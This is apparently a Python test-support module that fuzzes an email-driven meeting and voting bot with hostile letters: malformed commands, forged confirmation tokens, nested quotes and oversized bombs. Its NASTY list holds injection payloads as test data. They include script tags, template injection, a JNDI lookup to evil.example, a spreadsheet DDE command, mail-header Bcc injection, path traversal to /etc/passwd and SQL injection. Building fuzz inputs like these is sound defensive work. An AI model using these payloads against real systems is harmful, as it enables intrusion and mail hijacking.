"""What hostile letters say: commands and their arguments, forms, tokens, quotes, bombs."""

from __future__ import annotations

import random
import re
from collections.abc import Callable
from typing import Final

from tests.support.hostile.targets import Learned

Dice = random.Random

#: Titles and reasons that mean something to templates, terminals, browsers, spreadsheets, forms.
NASTY: Final = (
    "<script>alert(1)</script>",
    "{{ 7 * 7 }} {% for x in range(9**9) %}x{% endfor %} {# #}",
    "%s %n %(name)s {0.__class__} {topic} ${jndi:ldap://evil.example}",
    "\x1b[2J\x1b[31mred\x1b]0;title\x07",
    "-=-=-=-=-=- end of ballot abcdef -=-=-=-=-=-",
    "-=-=-=-=-=- keep these lines: ballot abcdef -=-=-=-=-=-",
    "[ +1 ] T1 another row",
    "x] T2 [ -1",
    "BEGIN:VEVENT\\nATTENDEE:mailto:evil@evil.example",
    "=cmd|' /C calc'!A0",
    "\u202egnp.exe\u2066 \u200b\ufeff",
    "line\u2028Bcc: evil@evil.example\u2029\x85Subject: other",
    "a\r\nBcc: evil@evil.example\r\n\r\nbody",
    "=?utf-8?q?=0d=0aBcc:_evil@evil.example?=",
    "=?utf-8?b?AAAA?= =?x?q??=",
    "../../../etc/passwd\\..\\x",
    "-- ",
    ">",
    "T1",
    "+1",
    "as AS of to BY until AFTER",
    "\U0001f3f4" * 80,
    "e" + "\u0301" * 500,
    "\ud800".encode("utf-8", "surrogatepass").decode("latin-1"),
    "\u0661\u0662 \uff11 \u00b2 \U0001d7d9",
    "x" * 2_000,
    "word " * 300,
    "\x00nul\x00",
    "'; DROP TABLE letters; --",
    "https://evil.example/ " * 20,
    "\u05e9\u05dc\u05d5\u05dd \u4e2d\u6587",
)
_TOPICS: Final = (
    *(
        "T0",
        "T-1",
        "T99999999999999999999999",
        "T1e9",
        "T 1",
        "t1",
        "T\u0663",
        "T\uff11",
        "T\u00b2",
    ),
    *("T\U0001d7d9", "T01", "1", "all", "T1-T3", "T1-T999999999", "T1,T2;T3", "T", "T1T2", "#1"),
    *("T1 T1 T1", "T2147483648", "T9223372036854775808", "\u03a41", "T1.", "(T1)", "T1:"),
)
_CHOICES: Final = (
    *(
        "+1",
        "-1",
        "0",
        "yes",
        "no",
        "abstain",
        "\u22121",
        "\uff0b1",
        "+2",
        "-0",
        "1",
        "+1.",
        "+\u0661",
    ),
    *(
        "\U0001f44d",
        "\u2713",
        "+1 (binding)",
        "+1, because {}",
        "++1",
        "+1-1",
        "1e1",
        "nan",
        "True",
    ),
)
_PERSONS: Final = (
    *(
        "me",
        "none",
        "jane@example.org",
        "Jane Roe",
        "TBD",
        "agenda@lists.example.org",
        "x@evil.example",
    ),
    *(
        "<jane@example.org>",
        "a@b,c@d",
        "devel@lists.example.org",
        '"x\\"y" <a@evil.example>',
        "@",
        "a@",
    ),
    *("carol@example.org", "JANE@EXAMPLE.ORG", "jane@example.org\x00", "jane@ex\u0430mple.org"),
)
_TIMES: Final = (
    *(
        "2027-08-26 13:00",
        "13:00",
        "25:61",
        "0000-00-00",
        "9999-12-31 23:59",
        "tomorrow",
        "10m",
        "1h30",
    ),
    *(
        "-5m",
        "999999999999m",
        "0",
        "1e9h",
        "2027-02-30",
        "2027-08-26T13:00:00+99:99",
        "\u0661\u0662:00",
    ),
    *(
        "9999-12-31 23:59 -23:59",
        "0001-01-01 00:00 +23:59",
        "Tue 13:00-17:00",
        "10m 20m",
        "\u00bd h",
    ),
)
_END: Final = "-=-=-=-=-=- end of ballot abcdef -=-=-=-=-=-"
#: Every command, and some that there are not; {T} a topic, {C} a choice, {P} a person, {W} a time,
#: {X} a text.
_COMMANDS: Final = (
    *(
        "VOTE {T} {C}",
        "VOTE {T} {C} {T} {C}",
        "VOTE {C}",
        "VOTE {T}",
        "VOTE {C} {T}",
        "vote: {T} {C}",
    ),
    *(
        "VOTE",
        "VOTE {T} {T} {C}",
        "UNVOTE {T}",
        "RANK {T} > {T} > {T}",
        "RANK {T} = {T}",
        "RANK {T}",
    ),
    *("{T} {C}", "{C}", "{C} {T}", "PROPOSE: {X}", "PROPOSE {X}", "[PROPOSE] {X}", "SECOND {T}"),
    "PROPOSE: {X}\nLead: {P}\nDuration: {W}\nSee-also: {T}\nDepends-on: {T}\n\n{X}",
    *(
        "LEAD {T} {P}",
        "WITHDRAW {T}",
        "RETITLE {T} {X}",
        "DURATION {T} {W}",
        "UNDO",
        "MYVOTES",
        "BALLOT",
    ),
    *(
        "ATTEND",
        "ATTEND remote",
        "REGRETS",
        "MAYBE",
        "AGENDA",
        "STATUS {T}",
        "STATUS",
        "HELP",
        "HELP {X}",
    ),
    *(
        "REQUEST INVITE {X}",
        "CONFIRM {X}",
        "MEETING {X}\nStarts: {W}\nEnds: {W}\nBreaks: {W} {W}",
    ),
    *("MEETING {X}\nSecret: no\nBallot: ranked\nRooms: 999999\nLocation: {X}\nDeadline: {W}",),
    *(
        "NEXT MEETING {X}",
        "CANCEL MEETING {X}",
        "MERGE {T} {T} AS {X}",
        "LINK {T} {T}",
        "UNLINK {T} {T}",
    ),
    *("SPLIT {T}\n- {X}\n- {X}", "DROP {T} {X}", "RESOLVE {T} {X}", "DEFER {T} {X}", "REOPEN {T}"),
    *(
        "SEEALSO {T} {T}",
        "PIN {T} {W}",
        "UNPIN {T}",
        "ORDER {T} AFTER {T}",
        "OPEN VOTING until {W}",
    ),
    *("OPEN VOTING", "EXTEND VOTING {W}", "CLOSE VOTING", "REMIND", "INVITE {P}", "UNINVITE {P}"),
    *(
        "ADMIT {P}",
        "DECLINE {P}",
        "PREVIEW",
        "SCHEDULE",
        "DIGEST",
        "DISCUSSED {T}",
        "DECIDED {T} {X}",
    ),
    *(
        "NOTE {T} {X}",
        "ACTION {T} {P} {X}",
        "PRESENT {P}, {P}",
        "MINUTES",
        "SERIES {X}",
        "DECIDE {T} BY x",
    ),
    *(
        "ROSTER {X}",
        'ROSTER {{"members": []}}',
        'SETTINGS {{"chair": "from"}}',
        "SETTINGS {X}",
        "{X}",
    ),
    *(
        "AVAILABLE {W}",
        "TIMEZONE {X}",
        "TALLY",
        "DONE A1 {X}",
        "thanks",
        "stop",
        "quit",
        "yes",
        "no",
        "ok",
    ),
)


def command(dice: Dice, learned: Learned) -> str:
    """One command with arguments from far and near, sometimes mangled."""
    slots: dict[str, Callable[[], str]] = {
        "{T}": lambda: _topic(dice, learned),
        "{C}": lambda: dice.choice(_CHOICES).replace("{}", dice.choice(NASTY)),
        "{P}": lambda: dice.choice(_PERSONS),
        "{W}": lambda: dice.choice(_TIMES),
        "{X}": lambda: dice.choice(NASTY),
    }
    made = re.sub(r"\{[TCPWX]\}", lambda slot: slots[slot[0]](), dice.choice(_COMMANDS))
    return _mangled(dice, made) if dice.random() < 0.3 else made


def _topic(dice: Dice, learned: Learned) -> str:
    if dice.random() < 0.6:
        return f"T{dice.randint(1, learned.topics + 1)}"
    return dice.choice(_TOPICS)


def _mangled(dice: Dice, line: str) -> str:
    """The line with a change or two of the kinds that clients, or attackers, make."""
    where = dice.randint(0, len(line))
    changes: tuple[Callable[[], str], ...] = (
        line.lower,
        line.title,
        lambda: line[:where] + dice.choice(NASTY) + line[where:],
        lambda: line[:where] + line[where + 1 :],
        lambda: (
            line[:where] + chr(dice.choice((0, 7, 27, 127, 160, 8203, 8238, 65279))) + line[where:]
        ),
        lambda: f"{dice.choice(('- ', '* ', '1. ', '> ', '    ', '*', '# '))}{line}",
        lambda: line.translate({n: n + 0xFEE0 for n in range(33, 127)}),
        lambda: line.replace(" ", dice.choice(("\t", "  ", "\u00a0", " \n", "\u3000", ""))),
        lambda: " ".join([line] * dice.choice((2, 20, 200))),
        lambda: line + " " + " ".join(f"T{n}" for n in range(dice.choice((10, 300, 2000)))),
    )
    return dice.choice(changes)()


def _commands(dice: Dice, learned: Learned) -> str:
    count = dice.choice((1, 1, 1, 2, 3, 10, 49, 51, 120))
    return "\n".join(command(dice, learned) for _ in range(count))


def _one_repeated(dice: Dice, learned: Learned) -> str:
    return "\n".join([command(dice, learned)[:300]] * dice.choice((2, 50, 60, 500)))


def _prose(dice: Dice, learned: Learned) -> str:
    lines = (
        *NASTY,
        "Hello,",
        "",
        "Agenda:",
        "Meeting: Tuesday",
        "Status: Open",
        "Lead: me",
        "Vote early",
    )
    some = [dice.choice(lines) for _ in range(dice.randint(0, 30))]
    if dice.random() < 0.5:
        some.insert(dice.randint(0, len(some)), command(dice, learned))
    return "\n".join(some)


def _form(dice: Dice, learned: Learned) -> str:
    """A form that was filled in, in some way, by somebody."""
    form = dice.choice(learned.forms)
    marks = (
        "+1",
        "-1",
        "0",
        "1",
        "2",
        "999999999999",
        "x",
        "",
        "\u0661",
        "+1 -1",
        "]",
        "[",
        "yes" * 50,
    )
    filled = re.sub(r"\[ {4}\]", lambda _: f"[ {dice.choice(marks)} ]", form)
    lines = filled.splitlines()
    for _ in range(dice.choice((0, 0, 1, 2, 5))):
        where = dice.randint(0, len(lines))
        match dice.randrange(4):
            case 0:
                lines.insert(where, f"[ +1 ] T{dice.randint(0, 9)} {dice.choice(NASTY)}")
            case 1:
                lines.insert(where, dice.choice((command(dice, learned), _END, *lines[:3])))
            case 2:
                del lines[where : where + 1]
            case _:
                dice.shuffle(lines)
    marked = [dice.choice(("", "> ", ">> > ", "JR> ", "| ")) + line for line in lines]
    return "\n".join(dice.choice((lines, marked)) * dice.choice((1, 1, 1, 3, 30)))


def _token(dice: Dice, learned: Learned) -> str:
    """CONFIRM with a token that was guessed, stolen, cut or used before."""
    token = dice.choice(learned.tokens)
    alphabet = "abcdefghijkmnpqrstuvwxyz23456789"
    guesses = (
        token,
        token.upper(),
        token[:-1],
        token + "a",
        "".join(dice.choice(alphabet) for _ in range(20)),
        dice.choice(NASTY),
        "",
    )
    words = (
        "CONFIRM {}",
        "confirm {}",
        "> CONFIRM {}",
        "yes {}",
        "CONFIRM: {}",
        "{}",
        "CONFIRM {} {}",
        "ok",
    )
    return "\n".join(
        dice.choice(words).format(*[dice.choice(guesses)] * 2)
        for _ in range(dice.choice((1, 1, 5, 60)))
    )


def _quotes(dice: Dice, learned: Learned) -> str:
    """Quotes in the ways of many clients, with commands in them and below."""
    heads = (
        "On Mon, 2 Aug 2027 at 10:00, Jane Roe <jane@example.org> wrote:",
        "-----Original Message-----",
        "From: Jane Roe\nSent: Monday\nTo: x\nSubject: y",
        "Am 02.08.2027 um 10:00 schrieb Jane Roe:",
        "_" * 32,
        "-- ",
        "diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1,9 +1,9 @@",
        "-----BEGIN PGP SIGNED MESSAGE-----\nHash: SHA256\n",
        "-----BEGIN PGP SIGNATURE-----\nAAAA\n-----END PGP SIGNATURE-----",
        "begin 644 x",
    )
    depth = dice.choice((1, 2, 9, 200))
    lines = [command(dice, learned) for _ in range(dice.randint(1, 6))]
    lines += [dice.choice(heads) for _ in range(dice.choice((1, 1, 3, 200)))]
    lines += ["> " * depth + command(dice, learned) for _ in range(dice.randint(1, 6))]
    if dice.random() < 0.5:
        dice.shuffle(lines)
    return "\n".join(lines)


def _bomb(dice: Dice, learned: Learned) -> str:
    """Some hundred kilobytes of what makes a careless reader slow."""
    size = dice.choice((1_000, 1_000, 5_000, 5_000, 5_000, 20_000, 20_000, 200_000))
    unit = dice.choice(
        (
            *(
                "PROPOSE: x\n",
                "x --\n",
                "-=-=-\n",
                "> ",
                "<",
                "1\n",
                " ",
                "\t\n",
                "On wrote:\n",
                "T1 ",
                "VOTE ",
            ),
            *(
                "[ ] T1\n",
                "@@ ",
                "-=" * 200 + "\n",
                "a" * 900 + "\n",
                "\u0301",
                "From: a\n",
                "wrote:\n> \n",
            ),
            *(
                "+1 ",
                "VOTE T1 +1 ",
                "RANK T1 > ",
                "Lead: me\n",
                "\n",
                "- \n",
                "MEETING x\n",
                "(((",
                "_",
            ),
            command(dice, learned) + "\n",
        )
    )
    return unit * (size // len(unit))


def _bare(dice: Dice, _learned: Learned) -> str:
    return dice.choice(
        (*_CHOICES, "", "yes", "no", "ok", "NOT ME", "I did not write this", " ", "\n" * 99)
    )


#: Each kind of text by name.
TEXTS: Final[tuple[tuple[str, Callable[[Dice, Learned], str]], ...]] = (
    ("commands", _commands),
    ("commands", _commands),
    ("repeated", _one_repeated),
    ("prose", _prose),
    ("form", _form),
    ("form", _form),
    ("token", _token),
    ("quotes", _quotes),
    ("bomb", _bomb),
    ("bare", _bare),
)
